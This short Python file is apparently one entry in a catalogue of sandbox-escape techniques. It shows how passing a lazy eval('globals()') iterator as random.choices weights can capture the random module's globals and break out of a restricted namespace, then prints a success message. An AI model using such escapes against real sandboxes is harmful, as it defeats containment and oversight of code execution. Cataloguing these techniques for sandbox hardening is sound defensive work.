# technique: random.choices adds up the weights that an iterator yields
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import random
kept = []
peek = functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()'])))
try:
    random.choices([1], weights=peek.args[0])
except TypeError:
    pass
if kept[0]['__name__'] == 'random':
    print('ESCAPED globals of random')
